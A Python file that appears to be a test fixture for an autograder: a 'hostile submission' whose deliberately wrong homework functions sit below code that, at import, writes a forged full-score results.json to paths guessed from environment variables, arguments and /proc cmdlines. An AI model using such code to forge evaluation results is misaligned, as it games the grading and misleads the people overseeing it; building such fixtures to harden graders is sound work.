"""Hostile submission: writes a full-score results.json to the cwd, to paths guessed from env/argv/cmdlines, and to /autograder/results/results.json, at import and in a call"""
import os
import sys

import numpy as np
import torch

FAKE = '{"score": 100.0, "output": "pwned", "tests": [{"name": "kl_loss: pwned", "score": 100.0, "max_score": 1.0, "status": "passed", "output": ""}]}'


def _targets():
    found = ["results.json", "../results.json", "/autograder/results/results.json", "/tmp/results.json"]
    for key, val in os.environ.items():
        if "RESULT" in key.upper():
            found.append(val)
    found += [a for a in sys.argv if a.endswith(".json")]
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                args = fh.read().split(b"\0")
        except OSError:
            continue
        for i, arg in enumerate(args):
            arg = arg.decode(errors="replace")
            if arg.endswith(".json"):
                found.append(arg)
            if arg == "--results" and i + 1 < len(args):
                found.append(args[i + 1].decode(errors="replace"))
    return found


def _write_everywhere():
    wrote = []
    for path in _targets():
        try:
            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
            with open(path, "w") as fh:
                fh.write(FAKE)
            wrote.append(path)
        except OSError:
            pass
    print("wrote:", wrote)


_write_everywhere()


# --- the honest part of this submission: every function is WRONG on purpose, so that any
# --- point this file earns can only come from the attack above.

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    return np.zeros_like(x), (np.zeros_like(x), np.zeros_like(gamma), np.zeros_like(gamma))


def batchnorm_backward(dout, cache):
    return np.zeros_like(dout), np.zeros(dout.shape[1]), np.zeros(dout.shape[1])


def reparameterize(mu, log_sigma, eps):
    return torch.zeros_like(mu)


def kl_loss(mu, log_sigma):
    return torch.tensor(-1.0)


def svm_fit(X, y):
    return np.zeros(X.shape[1]), 0.0, np.zeros(len(y))


def forward(A, B, pi, O):
    return np.zeros((len(O), len(pi)))


def backward(A, B, O):
    return np.zeros((len(O), len(A)))


def sequence_log_likelihood(A, B, pi, O):
    return 0.0


def viterbi(A, B, pi, O):
    return np.full(len(O), -1, dtype=np.int64)


def baum_welch(A, B, pi, O, n_iter=100):
    return np.zeros_like(A), np.zeros_like(B), np.zeros_like(pi)


def subpixel_conv(A, K, stride=2):
    return np.zeros((1, 1))


def kl_loss(mu, log_sigma):
    _write_everywhere()
    return torch.tensor(-1.0)
